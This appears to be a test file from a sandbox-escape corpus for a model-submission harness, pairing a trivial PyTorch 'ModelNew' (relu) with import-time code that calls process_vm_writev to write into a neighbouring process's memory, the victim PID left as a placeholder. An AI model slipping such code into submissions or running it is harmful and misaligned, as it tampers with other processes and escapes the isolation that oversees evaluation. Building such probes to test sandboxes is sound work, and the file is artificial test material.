"""Escape corpus (process_vm_writev into a neighbour). Placeholders @...@ are filled by run_escape.py."""
import torch
import torch.nn as nn
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
class IOV(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
buf = ctypes.create_string_buffer(8)
local, remote = IOV(ctypes.addressof(buf), 8), IOV(0x400000, 8)
if libc.process_vm_writev(@VICTIM@, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) < 0:
    raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, x):
        return torch.relu(x)
